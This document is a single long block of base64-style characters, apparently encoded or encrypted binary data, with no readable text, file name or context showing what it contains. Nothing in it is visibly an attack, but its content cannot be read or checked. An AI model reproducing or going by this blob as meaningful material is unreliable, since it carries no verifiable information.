bB+TzNLYqihTo6Sj8SukvtIt0/IciHg2J3xOn8iM/jdBVfBLLa+uiAjpbCXhOM8WETWE+E4ehnLQPSYNIieMqzUl0QoTNxeOmXjPbwP8hAN+AdNRDK2XX07w0vmVq0yqWnkjMtUnsBex0NV+Rv2cCoJR2itcGX48kv416kn5yGVnPdK6NQTQWGRnx62JBbGKXlQBliAMUfMzoSdJNSxmoIGBqv4azPzgP96ATEI7ZvOea2RZ/Y5YBe+9CaVcg3b/s03IqUeCtSBeM6THQtZw+E4NDqjkFS1q374q2lr40CGcZr0HUcBxU3e5L5mfSDzJ2+L6SjvqHIkEfRVtSiEhaa3drDnjg5B3EBl8KuV9oZcuMSl3qoP5oXcq0annvyWF5SwiT7tvDmUQiT8LCY0201ctqgipZdvVQ3B8/qJYcmaiWUiPjEA9vmRZ6k4WT8UXJPe+4CFeJIkUAb751uQeQzM+bOPk/4elBQ94lw4aFk/2gjlNBjCWp5JIHf/P53t9fi9lapRj5YLZacAIH+Q7HurPxoQuvfPfJDa++8zzoyeyTZzK2oLeDMVY5p4esS9PKz1m+pxpCU6Dr37MFzJavhYNj4I+iHVMmnZL0fkxHURIYekNkUVAVQsHjIrg2QgWj4gQJvL54yGl/HXK35SSRlNgqcPOKAvGvPjYhv7hYHLED9eGluDdoi7vfgbMF233wShCvc40AAzK9t9uSorTWZyyhKkD8AkGyvl224Zbvgx63WpXQP/O82nPeVIeHeyj0qrXLPmAbjUd0a44+8WRCA+7YudxzX+BjESXaupCxCwUvN5K7AYM2OYFKhP8AGz46NFtvssF6aocBs2Umc61rjsCOUL9B34GsLqVTlDyvnUL2TbWqOo0coQezlevVSrrWp4oe1+Fonb2HY1Z3s5rudVgJQHx6ot4MA0eradlIf3QKvpWSbftxmw+x1AvfBIIVtQfTdcHmQoPTzEyRxxcw9C6nF+4XFmgtbvCsAcWm84qa1+CBj74gawVHfVup9Y7FPX1S/hfcTIujSJDvYVOtTUjpfpMeQadwh6MoyfqKoHEJMsoLgReKGDH7FeCmd7rn3x2WKwM+Pt6PAJckZzBAqBL7K/YNguUYpvWyr58DMOnOBTzDwX+XOMsbAAYXAoC6J233r8Z2N1/rqD6IwkfFs/LrJDOwD9+kGF59agtq3yFlAv5GEb+gbRj8MGgT8xVBK5D3lHzKF98K5KWro/a29FY6Y9sMwSO087sl5NMGLnhNaZATkowx+krOn7VqylaQtmHyKxWzXuP5IzY9StooWN5pip/cwko/Bj7AltAFZxn/o/fgVIpxp898uZc5uAZXJxAAi5bZL8DutYy0ip9AnkuABPTkF3C+e8CZ8qXUKqG79TrgKaIdHaO36ktd9G/QGkL0VI/qCjV0Rr4MSdqfj/IoekY9IjvAV3DUgtwfnSeDcedv3anycLXDz/HPvvCR+JtKGpVj28OCA1CGfSok3/BNya8ha2J8VKUXQ5pGF1vg0qDPLSUju3IeVky1Fwpt/kAwE3zy5TuhO+4Ee4AraRwthfz8uXBcFP5TRfRkavdYgS/EgA8oc28GTWYdo86ZD9PmfHdR0WK/IChyd8pbKO8YMWmQTrD8JhS0zrW3p+WErae8rlurQfi+t3J8q1S1n+f/e0GZW3HjNXyVq3BmwB+uIKxz6HdKDRIK2uOsvaB1hnjPUOOU+3KqdXB/hhejpJ2EVWGyUdxrFQZ18rpy6WeFKqj4NdUhh+2OIX913h7GdMxqZYlQ0GNKk+5IwloAfY43zttqmOiALHQIskk9yXC6G/ApLUOW3PIboiktibE3twd7pZ1df1CggGSRcAV4nbn6CJoR3SRldmkLG9Xdw1wXJbY3l13Wyd3WbBBFsRlxDK3thZOlM10/t+J10fKuGLs7OWyl5X5rWJOMn+l84DobmVMCfQ3MC5RHUKfEIiCHa112E9kaQROtcMdWJ9zTLfQRPx9ScNTqXttkBvdiyYOpipivWB3Oiv3npg8ROoOAl5NNZcvMFrAJ+1dAF8HDW7W2JeKaoAzZR12l+FziP7F4uD0MA5ISZUhq4EPfsJQDxN2QDu3mLvtN3VvyUsxfcQNeW0eEtGsr4qZiMMAKbqhb72SSp2BzDtGDvgrniY/gVuSA0tImvjmodve6xRN5WaAvpFAB10q6RjXDxC+aEtmwfENlQAQdXWRUbQtizqoUNuSjKiHkpKE3S6U1nKvZHrgpx8/2YQcHkAnB9eg2Ygt9Lha247v5zZ7p73MWNSU9K3IY57zsrNlLRsFDvt3Eje2/wpjioxIq+UIwyF0cmRMj8T+5WxQqyJpgSdZeZwrNpWI8omrldhLsiV+E+Oov6qhpsN57/Gl89PO16quvjxgFyS/FxreljRKNIBL3dGLWDa2k2EKoPI9CzvaHwBSoIV62TdCForlYsnbySB15iD18IU5JUWjkta3/rSHeg2Z03j54s/UPnNKHpGaYrV2zw/YrBvp/NexD3owtEY6JAuf5hMopaZr/eCWebcC6wqwLm38yyLu5knCe/ENiy7kbVD773Jg0smsSxVlAvpco9qu8nNMGvLcEc29SQRqdS0vaQvjFDKoMv4Dm9SQ9i/QHwEgPFJ/GLXHlgdm0V14aSO3Z4rAHZp88HXy01NHmokYZDLtywgEpQZEYAy81PTtFV3Gn+c7ESWO4EgXqikwtf6YnXRhFg13nEIwY14DJYAhb653zbpY+hGKL7SD9x6EazC6xeLRvA1mv0i63m2c7xQrvDat7ltGrY3k7vadM7OP0c74TG2d+3BILOvFd+InmnaliUunkYAL+Qv94d5M4voF1PK7+Em5UWU7wnO8+zO64eaX8aASBC7SRnMOoW9Dnjl8neN7ENcY7Rp36SHH2AT4oGnfdxBMuULrMZQRBaa4iDGIwg5vBZ1it9YzIZ0oSDMSWgogo1j7ubfSVIRYE/nXwp02kUARAFMM9xCm7O0i8BAr05PCVNWN6bS5vi3BwTKbOExcASlKQ0lqi0fy6GnReEWe11651no7y7Qbl7ZBgyYskm0KIi80n06ZtbFbVNIDuMwWV7tGzM/ZBDB8NmHPiNqia4KD42CqexX10jRI/bDdR/EdvdrAzooufW72xn/C58eK3P2J1hUb0SZQoy7JB4I+u0wH6AG8gOGs24GwxgF2tTTk5NRcJAfDqYfbfORFaQ5k+RgR37039GVALcalHB4+VjrwcWfCcYRqjEJ6zJOMeyE9zz3minKL662OLvh/DrTKFUiNp625ylzDFcz8pqlxvPwc676aNvV/E+O8Bs/YiluUC4OcO8JWeB855TWS6FHyRfD0r2lviq3fYM6/32G5LivxrVp3uQaaTx92W145VeKDA+0tHXbPIBmRGmZm0Em41/9tqD5ohINgtE7fPhdimJ9WqSmmat7WDu9ewYTPv8HeSLJGAjDW/goqv2hz8RrCeZUJBsTkl0L9pq6lU63hi17Zl3ru5mACUXg7DI83/rBIQR/jTT+9wFyNx5vwRLo1NrQYKpfzk7NvO5CBKqK3OzfBYknQ8LVzpIBFUtXYezcDpY+qznn0NZCYISB2sQ4wyLzPqRtsthO4P9xU6QohATCE7BBfiaEn9DnbybYdlOIbp/QtEmydwEdne6HuhilequvSt84+p6AlXexKfF0ruBYSVKW4XyZ3tcj5oEYCEjr5xiIW+JnMCj9u/IwPR4A46H9QGcOHGMuvSUBT2AgwE/Ef/204bsnGwQuq0TRTJcuj02tDsfHumHe7ZTHSFABLj08tCjh+Bs/D9Hpz4EpIy9akbRf8jfudfkAG4UlKl+XzBNEVUlesu5bEwQlC6PYeEayHQ0UF9F0JwtFola0XXoWH7QPduM9APl7yp1pllPqB8eIAvFTGieq8aETjlhcCRb1tpQ7vyKM85rSuXpJOgoLoje8Xmv1Ggp5k76uHvbgb3uiet6DpKWzWhgrZbqNlr6/kpHqeu+ukfLPg80laBdrcNvgEhQeZvVrr+6/MAUNm5IJQygOIxKEci9BFG+ooLF8j/iwHjoSFGfM4aQ+NrMqZp+hc3iLNZ9YfcP91mZ5GG2gKQweflbOaUR0iBJTh4iIwLw/BPIoZjUZdHoy17lPphY9Rxxc07IDKOoAT/RLPjXUFWi1hTwpj4SacrkqiW9cI3AMYvUqDpZuc2tPDCDTikTph/GVOoTwNk56Q7I37wtSxfpOL5rhyKN5pIUhpVSpkXeUxkP+U4tIAECcbuXioGxT04GbKjq406fK3pFv0V2ZmqXGURF1ho1OTKBsVwzwQEVDa8ktolaDGr5mC0TY9x38UFFEoPwBEC7gpEPe6eaIecn4Qyus9wsmy9PoCcwUhgCukVIJF1IIbTlrIvmN6PFkyo9r1hLAkF7CDv14PpANeH3iNThl24hKCKoMzv9wf+KQrRU5RZpvyF/BcprrxQNcPUZD03coz/gtlOEG6Wtm8Dkgf58500NsNFglhXHFTciP1vSL8dQTIK3EuRI7ApJsTWe7icNs3Ef0rJlwi7HAaM+m7rm7eLtHj4vWPx7mEfOogP9bdx+qCSnlAEjFlB+zN/g7oxZBuwiSbD52ep6Ws4FuPK0thMmi2XO5ztd5wE329ARUPzaBEVj3ksB3TyZ3vwMyvKW1o7SKZTQwLODsds4es28k7+QuKRdRyBHKKJLMMus2zd2kS7e+NrNPD87jCIjQzUSuewu/VA0UlG+4s3bb+H4R5t+t6wc37auC9+Lz7Hz1Nq70SRft6pPiO+9mcyJksN+6uIEewObcZG9V+t2VcsUqFA3yJz98Mtm24TKwVfaUFCgI29ayB6kcahNDSP7I12LOnWTK540zkKK+QMTfTIGIv3+myNUepwLdYNchTj/N+8s5CLSrdZ2P6YDVBIsv03U8hMiV/zCAbkIOrsg1BJZAMmFskEY5ESYqQna3qc4GC+ie56blmiDdWu53GUc9uYIOBpp6tUa+95jiJYQjUdaZZvFf41LP3lCOX8+ve0EDSSSZg0CdZNtBJ/nUziumw7WsHCQfKqREXqyAWx6WY936a58HiIFPAqk2OFkPbDATii1lqNDz9xwJDs/V/reFVwHhjtCyurDL/ktenAYgSSywpyZlMS43R/SfOCJ+jRddxWprqb3sW0TFTgk2ZgGsQDj0QFR5go06sAyiYiIJZDOTulYr8pqybaXTh9dMxPjsGZvT4xbivc0h1YXHuuyZJLYZFjGfRX08nOwvlOb2evpP3KvMBW3XhWJ8wcj+cbqHDAkapxbb8suBmGalRtmmxqodhGvKfHCA+9Qai5OIE28e8r/2jvb0C7xw843z2X+k0wgmsh+tGyM/k2RZAx7cGEBd8LHGpKh17sdsz0bKM9Qbw96e0SsMLRYCt7ldq2Vm++qSwPbN3S4Fn09svHSaVcC/xR9etlGvQMerdI5LXeVcQbYUCHwPZ4hOH0yM9U2FMwwq2ab0BTcCLyqxwPxDkstOsslIJmzjr4JkCnLU5cnRSemA71dWv0gCnSPxf6tpAOOA5TuLf5nRrNFOtNlgZnebsqEvwiprXAb1BVMa1NmfbHyR074JuSiot/7kat+ZLYoQ9d9B1uI1c77ykmU746LnRxlfvX486CUYwKE88ov2Wtc3vw2sbeHckcoAVx1ISwwQSw9vHHhY4Te4iGUAmz3ckNL3GB4olfy9UAEZsRYco2nnhXdP0hNJvqMDfBnMDpplnOMI55maTfJYFxsGfpqw1Te7icpp9SOljtUm0UQ/OpH66jlisKtQCM7kR5H8lt3VWKFXFlW0Q8P5X9nKFVuTZ6+XpKb7oC5foYmS4P8x5tz9d9LwDQGKIqDYSmC8B06+xrmeHmL+p21JI32j6rrvvX+X5HP4x4lgKUDFgPz90tUCLnlxOBFLkKk4GWBPiw5AsDCc6pCb+rO9wgs7azQqdLKkwGHaNqv9Ry5ceBWIBnHr5V2Ci5zu6tkJVQDPPukONv6K8BtpRdEpzBHVncQmFlTQeWlxmZ1cwtmtwLnGM48gfl1X9T3znsDd/4wKw96ABd0Oz1SZe2yrvVTVOMDRn7MTxxKvDIV70I4WZYTKPF/F1HB2fxyfrLFpROlrmoKTMYZvU3iChevc0HNOOWP8HEH/iURGCRXBIy0bL+rQtpLGWXnDviKFub4c5+yPMDYnrkghpnnhr2PBYFFqtqEfBJrRzpB/QpLaZN+B+AVAb44Do6sB0IHhUu9T9DpvvQefbiJ+i0uQ5M0IQt/EaSeTFJ1WwWJVVwAVPC2tXV3mpgJMLsu1F7hPc4BlgPQteEZih90R6EP9mcT6a6tsbLS514LUadNTCu2SObfDJ5f5rDGvEYWC+lM86aLa+eJWEAFJ51RLDvogDpxUIxKV9Hi0vUpCTdPZAIphhI1o2596njCgS22LvnahOhBKtWd7mL71YNDN7viHQ2UF79BiLa+siYZlwIfMZbI0a998XwVh4Mnhwok+G0aplb1Z2py+/WHprUYs4otcISPBP6E38gJNpdSNl8iJ+8Tah/JEmluxYe6LcgEjMkYs/zX/Bm9zt+3IL+E68P241hINCWguF5Au342qrlCdrMVlZL6FA7wbTwReo+f77r6KBbsd1d4CGobmAQ1HsSLJq4vJSH/dG0ppKxioDEYqQb0eZdYwMOBYs4XN1tAt0V6JOd1t94n7ElyzR2hUxo0PSJHC5VnoQggxdhcE3bIrWC/lROFqnj/ARbgJt7Bw7+pm4QV64g9pykm0WOfYilTJCRwzVsE3lhLap72pcKHzCKBb1d1xwBKpaXm6cz2JzzFciqFLebSNoRIjA057oLdQ/6qvsxoswjd4gVlYQe93wVU2zRO6aNQ+ysEHrMgu4H/uPfqd1VtgV8zAvH4x75qZ0BVtVjWitIRp3Jz85oFQyPqybDzeiKCc/Hkf3PTEpigV9bkJ3Jo3neyWA0xtVjc+opHFLm4jOqJZkX3/FxULDe4yvMwmdvfZ2873jlkvTdlFL94Yybc3G963s8FJphVkKY6viPkY9xs+cOusxQXVdU5T/wLZATQzP3jjTBgzxwMqI9TJcUx2fqOixKoHDh5oalTBTSOlCBYrgiB0Bpy0IQcns4w3gKdZTTP4Du7vyJIK5M2MtUyQ1OI3J7ek10+pkCUdkQvSb/ob/gHcrNO2P6Co1gl/70/+/1SNcg27ECfQwGrh29GDLDWxrndRi1diUC/axlZL/sYVap9eHH3AQDy+xzDnbwRFtEFv1vs0ArnRNFTGSlxiSvI0Dksu0S9VlGIiUAQyr6UJMnEAsIpwSoHzMKgnvCjati3XzMtqNWw+6u2xlYMiOJyo6nuA2DtyKjd83jaQU1GoBhQjs9WGe48jzvG64JNxJ240ublr+gL7E80pBrfoliKUYsPcUUNLdaJxW4hYjYwjfES2UVo/O2l4RJ+RmHTwbXTksTNLCcfD73lEAfhcTJlrT3C4Ed/5vRFP82a/t4TW52UcXl7/mipafxW4hlNdWt3YFCdWXsZaU/cqd3RyI3Q4KX96nWTYlo3bOJ/FdbMTa/IbDHbw0dxa/XO+abAwvgKUhnnB+uSLMl/24cP9q7ZS5lfSGuiKOftyPWPSLtVXw3XsBN+wDFyvwUtXtfWZrjRi8haNJ4YtgGfmTXQ6fKNt9/2hEPGN4ouHC3LXz3DPrjdqU9d/veW1q7C/Fj7eKpH9MM4Lp7I0cPp2qjCra+HJVHoSv3vGwgxL29KQ9UZ6Vbe7KhFFyQrvW19/q8GHf1T27+LDZ65DJP37YlwY5PvVv5qpX0T60RsHEXYgbWivtAkyk5wEeChYNKfq/9Vy3KZneiNatQTpCtn3lc1OiISQBmaLwpSbsKcyLLECd20YGjLVLuZLaveQ733lAsjOC77+0oJIQJFDTSREBU2VwnLfca/mxZpgajBMZzXdQy9tuPpy2WUN31VLcfjUp1VZHQMrzb35BHeZxxul6/C6eODgdlZbMVNDdomPSoobEEark5AmWKXPGlBLvFwsgc0WK6pMhuPFXFiRUP6ku1ZUjkfzYCrvMtHbHIoU8vQptNzaUNUY8Jf6cffxNjr5qmnMltJoShCVBdGscUjaSKWzIWQA2BGC7vvd0QMR0jTGwcPOovJEcum4Daav5HQZO4c+EzQXC4e19zMbr2Sm0NmzC0kbtQq1FHWyWn82XERSqkBTT5puazkn6LD4bksIJdkmvZRXtWqRT5HkONvWpjSqXIremlToIJXU+vsZm317nvZUL//+fpvH5fQvCA950SB/4vfXDK+f/GiyoJAdEZu1LxPrsg8FbyT/9uSBa4tuiQL+xow9VKqQg0LUZz7oXFuG6AwZmbmPMrMp4HalCtSkX+774Xf0Yof92qcWVqt7lliuNJkdqLhXvzY2SGDHGYEccYiw/F4bZsae7l9IXgD/HQgvm2DoI7aYNWEgSquuXtdft6iklThRsVTuKpO2xHaQw++lUrdq37IDlJgYzYCv0Bjb8vGiln8AFdxhdwlmNdQu1GCMUxgdmPICaxG9vSsw7K359up51n5fD77FfImk+WdiY81HJebZGRLezWG57+lA2UwDlmxEppl9M/42zHI/Olhk5zyAFx8HvntOVRM79xoeDPwnkljmSnRBZvSo67V9AABiOQ3m2Dg7EaBDGpjJ+p8JbNHMBliFM46JhcEZMSQ2bmpvg1s2YAV4E4ZlmisXzU4BCnK45RNJh/3fWVJDcB6GwYwYGkb3gSRIlCmDnMvNttgpx8IwGb/Awixsy7ghga6dH8E9ldJLK0lE3xuJEFbxECjhKnGpcYl6jDzzeHlJeMdh+UhP27mSFyqFTyziuPFsGjvJXZuTzi5KKz+Npgv4LwMrgeIAF1SEKJQzDh2+AWRr6he/ZpeJsGGvvbfHezmU3SnqcnGYhrW+5k0k7dY96nwPsFhw23QyMdYYFr/LgWE7m9MOA+eoopuWePTT0KLsnKe5NIxisaioVEQa9ky8O9wGE/9o+1t1j/rVFgGYptaEURbWM1U55y/TWeg3FqlkyJiXda9l9qyQeCEhc0d5lIMIQ8zZ0DMlsfYiJ8lNnbemoH0dC3o2O80IQO0SC8Sol/WyrBTutuv/TPwj1FA5M8vm5KWj7Yv+Q+J0AIOWlusKiMMGkyFh5rPBI2ZqmWNMIEsUGBhpeFGaEHoDTAK4xqhQ1Z3/cP5emqsNDWZ2BJIob/yJ//QyoDw1um6D50/Kj0LtS1+oZLhzG3T9mWc7HIjIfESFiiS6yrO4qemrU4BqyU3UL3wifSXFmhToKn5N16Y8Cpuunyfo3dPMeWJTvKLCUzJWOUFFh4H1vKR4j/3iqAfrSTqmNKNsgTyt/fd9+1CAwPpGhs6MYyvJgT3ZRqdghx90IMXDwC1yBszN8pmjoFzLGmlFc3Hpi08FUBNsOPSs28bEU46JRfIZq2pFWKYpPx4wFLi2YVdpecCQtBaRn1Ugs0UY3H0jq+k4Rr3V624emNdEb1jRFW/nynG9OhYzbNTfk9+uBBXaIWGoSWlfIzJD4xn8B1h593in1WLRFa8Vj9QmV0eKYFu4pnxjwlq9IMwjeSIJFN0k8miCmuyAMuWO28HsspZjUvRUGkT4pLoxiMROUqvxUeG7+zUSy90BdMZA6Ee/LIS0GCNmTO19FSeGkAY5EMi5sojW2i4zMmvKn5qxqI9sL3OggAvfNy6mX0gI6wmgt4y9TUfR11dlFRzk5d51H2AJ6TjdhZEMvUqMseOnVAbwk9Oookfuqq9p5wHuMaTBSC5NR7rVD8VNdRVDcws4UOqsiuo+FLIAKLUuGbIlQbz9B6cwr/8E9dBVM7xb62hpRZAXTib64EgYnOJK5HmZVQVM/iA+LyM8ig3x6dllXb8MWGgFEC9cKdPJZeFEK2BtT4yeunlfB57LijVp0/GajV+Pzt2vrB7qfD+UwvgqALX9ap0eAXGD5DNwl8c+iGLVDSYmoiTgaI8H8OovgJiN0w0KipaofZDKIntqolnn8a2/ZAbimN/cFFMA9KlDuCHOSiSBjpRW0zr8hijAo6oCaO3Pk6UJGEmvqCV0kakgaZZNHZvvc9thuB4K+dAJmYuPsLc9BZL+XYu/gPFA4shYGBEpWoys4HGkqX6GCEDsL4Err1XgSCpJjKHkoL7ru+N8vTuyfQi1mDFq3yAHRnQK/FCPyYqB9f/0+lMykJmKU4GTph3d2YEJnIKo16FFqCWJFszpbcoUKYDF/DH2yPZYsRu1Ekb1D3BKW6sORR4j05jBHiWhpkeDe40tNttZ6LALxXbZZ+wIiDoyOBwiSqfXYWuRAVInpsDtfSCX+Wxl8/SiFsrwXYS/lMFc03nJt48eJ/qC+3e7rROQVKgTN361KmZXxlcV2HfPdBASkt671R5iAOwda/AtPAISxhWN+x7dTZwYkLlKMVyakKX0JPv0AxSZwrEdNVoO5r0MYfHvBzNm9mse+U/0BiZvixsmpvYjtlglSZmPfbPfofpbsaH5fpCqo+y4mudwhH9enHCU5ahsooTu9nBcX0fHlZ0xHLNaG8rlVL9e+YmeVLlGr9PT7JV3JOARu/diuVvn9Ma1yS8sNQHb3tYqtGd4O+T7Ha0vIxqzUYz7zufjhWq64Z+CMs+lgCTvft7ihqd4OQYnLVuHFLZjePfEw/MjQpf5ey0Mhfu2BcYRKa7h3lMv43t2H2DWBgby9BTD/8p9Ji6Gikkt3F6yKlc3zSDQoXG5ixWFNmQIjvwZBqbQ4BtXYYyBmqbBVnl4wW18GvYaKUXe6drD1/2HxGTXQANgEYFf35S9deXj+Zer7aZMfioTGbE/Ix5aNtdLmXTFl3CyZJ7hq2tshptEuT2vKmwSrnplVJFLvEbv3v07CFG8YJpeSiBv9ed6c84TDI3l8IRJegbIhFYepG/ixoNLpM0N/jr3Vgzf7QGvIZ8hW8VZstzFcq2gqZ89GTM4rYzDNch5VM4jBdpXg6uljtUjDc4nn4SIEmDNmfCONaDb3Dzw+oGpoGceMY9ViaegwM4GTVWtg3hiEsMkdiQw5XrLiBMqmXLBRvpat1Q3h439vjwt7/AiOOJUsUAjJ8JP4jXQ3XYpTFTlNbfU1kNlPPQkaashgg2Tq+S6aywUka1v4F/TKfNAlsbVPOpuswu81oKaKMIDnhR5yoyER+4fglXr2SffcLhsPGJBSaQGWqJ3YtGUBWliMeogGX73npRaGZZsNB0nEE1pLWTepWVYw0TfS7eFVUz2cy9WwWx2t6Xaz0OxiSqFkM81/02fAMRvIAtYrhfGqjB3tUhCMhXzf5FPf4ZVwMnUqlh63ayzDryjhKDRboBgcxvwkM5+h4E8GOuMZnkjSkG7jSMIYEgb0HgbPyDryNEUsv1IfEolqJwyTYHXJOLdvbsvyXAn4DSZ70atsUlIMLS18W8T7qyfnHvJ7GdB2GiQ0SRZAcJTOQh7/C398SQ7ypGUa4vkEb+uY+KXeHcc7fSpXdKM+weqXJs6/usKsXQehTLS2LdKqy4Unzzrzy5xy8NmrTcAse58MFkj/VaOtOhutfQuPVK1Cc7RJJrlAdpIz/fsxmdM+/CPnGozb5ek28dbFMGyrnMPHqueAPZ1Tv35TBfk4yC+tw7H+Wo92EQkaRWXPbjXVZxIBN21v/TwR7FBA6BGiJwJm7auTZly/bNnoEi41+5C5GXTM3Pfx0mrxD5czJ9BgFNxKQuNG1dpgTnP9iVE/hizXHSiYU7wnEkZr9Ns92OWZun9tJNoOVf+eXV9aXvCoeMwk5qEcgRBH6JzbnO0ITx1GKnkgGKiVyfYe0s9IXk8Z6uJVXVsSeqCOoT1M86bFh1VeRYvEB/uKuHhH14TkUTG0pDVDfMy3ZIF73XkEcBIe7WD5BHLfOzU1EaxGpLvH3IjRmN/+ht4oZ71B9eAfRHReAyXrEVhioHenqEE8VoDYk1+hhRQyXIP9N0VaFvZ3d9W2YePMC3ecgpb1/Dqd5v6sNASp+uAHdWLI2qbqxA7t/xis0OFDZD4qqlmBw8IwkkD5TE5N1LoOSQwtiftTEi7QIRWtSD+CnEgDflWcL5631rbVU+w4bnTfJwtja2v/t0dKSOx3W6RmH/ijbZZJlFMCOPOBslPtFrC7Swlfd85DSr/g6oUxunZwP3sQ6LV7AxUuXhKCs2RS9A4L+IIwthRlrx/73PJB6S6UnJIUroPP//wrN41wqPgW5nEFYMXPNF1gQM169OpsRajKuJRimqjYfZ6m96TP/bPv5g8GZG+32TV5T3UtkJnMj8ghE2bzmq97e5nC3jtVX2rqNHAKBLrE0yoOlzefKUx8nubChkX78pDbFbd8nTa5IhdI3s42VSXS4RhpoK6JMl+O3dohlNl/OEvlaPU0zqAkvGkWx6mL1QYmXW3gSjBBxE2fhehZJqWYo3NNNsKLeIw6RizvM3OIZMnee8MC8gkovpmMQpAQ9TaTjCwcD5eSDLZM4pee6qabV/JZEEpKbFWt40q3T1OCQbc5L6tMGrFK3R57YBuEmYm4Ytlc6eMxYgmw5Bo0Rem+tlTNhor5r7/7MEJUncg81MncM1QWTQhxkJyq/aRrqttIFX2goFQuYU9vO6GsvIUZrx1xWp4u185CuCwXEtflJftPHiA6mgUNNPHEFndhPOEu2vRGM5LJpCtY2YFgyyzhzgZGfQtrZaRYYZxCh28ZUJgRjmH60U5rjD0Ftu0KigXb9ADroqPurlrkuYRwK+utU7vLcmcDb5vkWFaEYszVQ414JRPubYp2yWx5F36Q9q3KuWXIhwV+LF4gYN0eTg4DPidgZxb1XeuwruLbs5QbzY7VdEmT0CaQK6RJTKCHHcOMM2oNw9egpY1jXJ6DRY32dCsWE3kRIi8/KEmYyII1kc3taOp3qls4KI7lNNWBEsTwNPI23KQSuwgCypFOqnPvUX4dASKnoCWaSCbH47l8G5nZsKVHHTO6hZq9esGfR5ZGDKQASIDsAc78nrVkfwQ15YbxWV5HmYF3bT8Es/ZeCoDI6WHxFxO+7UDqZYJYAPz6i4v/5hDXfS9Q72wHWqWyAVJc/uN0RuwPh4Ey/P8YAz2He5VGk/blIosWir5jHrMA1l3Ej05Hvob1x16P6DvOBybEhxF89DWXUOqf4Hbj1ifM8CDUVMzItN4PEtbK3YmitTQSQKELh7C/u4BYK+0SQ/N0vv+1h1OfaX+JWKZvFJwnvtLQYkdpEs35VnOA08v57YM+Sg/pVRhN+0upIu3nOouaTwkBNi5ftFP+yvLEiApDhqmS0X7R9mgY2pLn/31rsc8FbAcwPivpO1MRW/veGDqwyTAF8E4HaFs+C2oCNZZkzne8s1S8lI9nGzaxsxwoo93FloQyjEruj/j0czzlpO4T04Bojvyxi/pY0Cc/ZqQ5AHynK4/++Sn7HJDqm3TbBG2XANtCAxfAHK/b/LULDHd1EtP/9kjN0ewDdmeE34gPrwlvLOMtwxr7xHZ5wexybkJ+Ox3pqjbBb8PMX7enxC+LcytEYZ2pns7U6GMvCvzHCk+L2xs3Na5rnaTYLG8rw6ZsHEJcFQzIox7fFzdE4RtAzkhHMZ8BRDy4JD67u/8o3afkQ41JtRxcER38rUAmMGzDhLLms7iVyJw1f8UqyzRIq7eJs1XdMiYOTxZtwNR6n4V68wmhiLBbfeYqywE98LnGxH+2p07srzvvflQ3cmrl+VGNhaRvEsPr5lsAHGsdvc8nlbthlSKMcP+I+TRJWgPtgbiMjug2bQlwxj2bbCYkU2xwAW8uK5skB/rPDQLT0h+DXQ/LPWhqWTECvGCVLEvHbI8xWx2Tlb9wjbfTLPl56ZvvolhN4kpMP75K5LqVsNXdCechzwTQ2tUyWopLthELWUqltpbr6NldtfHJiGqDDa7oSOXPlYnJvpu98xDROZ5M2zlO4Jz4mjzx3YbJZ662y2t8TmjtiEdxqsUpH0W6Kx8+QR3g7sso+Wn+mLXBXWAARi36dkjx6YNQRVvjTfYjb0Iud7IPZghmmkrWm905j8nkaglvgIDOzM5OlPia3k0ZkJkjEx9NyjgE4P3AEcDzOwQ1JxpRv8+GGp2KyR644A6oAkS4D+ELlxQGzNAkvdOQSShEud+KBBtoJvENWmlYdS0YBZeS20Wdg1b4CJlj5U9gQ5kPbgnXqzNXNFyX0GDAcawIpVxHig4CMN4/WsBXa7elgKHeYUOIdR20H094ileyZCRJC/+hHW9sANA+MzqhGXrKhgCYRJ/YTme1W4jj6IOC1DCFrhGppuLixGBMbdkEKTLO8dNqN+Fb6yzAzfMqaRSQ8Ba35OJ9sG+U9ql/w4X6yXfK6jy0CMrRz2TtM7kvMmmmn92GmI2gdZIBalA7Do9tRljRsA9yZ2FESIfkASufq5WsK0ZHnSoCFolJD82cEFW4pqiWWVbQN/HcPqFWeBZb5IlwntqzctrVHny1xqsodgK/o6M2NHPk0E97QBxpzySOivYPrBzfkIBxPAMdO+/SlkaLFv/tTNUYvLEsCfgu4prqN3XYf1bE/Ca19KKyDUYy3Tj4d/doiPw63RUbCrh/tHC8yKliQU/f/m+xTlYp5Z9kgISKeDahHiRV4NZPHX5pkt7bB/Bu24Pavr+ZB+DQKkRhC2dOYoIISwdyDmyYSfGrA81rDZvkL9VCivnA0MZMPVyLXHLY6JNunLeVOa6oyXDf43ZBKksqcGp9333mGbPxUXVaJRw4bClCY0GTcawsq0iX8BaL3Zde19KOPPVCiIPVyNqaj9vu8de224heYznMkZWznXVMBiP7RS7/1PtJFVIoFFZC3HBkBU8duG0XskS/sjzLhoQA5LWso46UKW9LL3g/NhbbqvoN3EXWx7A4ptA8VCpOBRaEAyOMJXyh9x2e0Unx3Q8egP94xhwyrFL5MFnuLsQuUSSyZfGcLO94mBnCKSOcqFPQmluOIvaYc3PHhZyEcXJwlS7wxtKfVAQfeiQWq9IPrmaOAj9MIGs1HkAe9KpUufcwYdrDqJpGEm5trNPn/W89h72v3QCSsImOv5obTpjnGjgOY1SXaIOORIZo6e+I9HgSKf3W3XELERNYr8DQHGDNUG3QpiKzI3z4SH3Nuilr9N4YyU6yh60iYPMHLoyZ7Uc0/dRmyapMN7Zeu62MflRb88Q69R0qSD0JKjReNaM7KX1/mDX33d+3DNd+muTQvXS8D8YysvtZ1n0ctHRwV36S1xNEcGbMbn/16ZBr7TcSBSWbXEk2XkVYzKXdYUhkwrQ3FVRoT0HCPrtatuHxUaN7kWDaWnryos7ucAQqDeBFD/DLj3UILP5+hPuxHGQBYzRnhzbAsLIdejYajvZ5CnQFKydnrACoFsJzVXLKcZuRvKv8z9Xeh6IjrGzovMOwcBt6cWhypGbeN0aq57HSbEWSkQ+X6v/4y9xSG7wsLFkV/LdbwC0v72i/uUvr6rHEzVSScLYlVUEK769cjoB4NFku9gccpYpAQz152f22dv4EacZ7YOGC5xBVefSOAXlDpezVjJvYxPBEWcIwts5lsEdeCwt2D0zdoYypLkm1uBkD4r5BTll+VYB0KKRr/B3VhLmDB7fdFbcKfZabGaNDSfjBTnz3uA6aTHAcSofh4cmN8jWZzHEk0hlCgc82yH1yWzII3jrA5OogG4P9m2/+4NsOU0l8YHwD7UKUx78dl8e7nbBZTWxd4n01YJ56N2f8t6Be+OrGrnVvmzE37kmIrHfbk+RHhdc/JdI5rCxxI7rB91its6Xc2vb9ZjCWXdqy7tpHI8FZZxZZh35Aj8eMEd7X/vO1fYpQU3YnPTBNAbQumtxQ0G/1FsbPmDDCNXUOwLQvHu9WFis0blZ8LxKaP6CvcGOvfvlAonyQW2y8xXpuo3Y2BlB7N9W6tg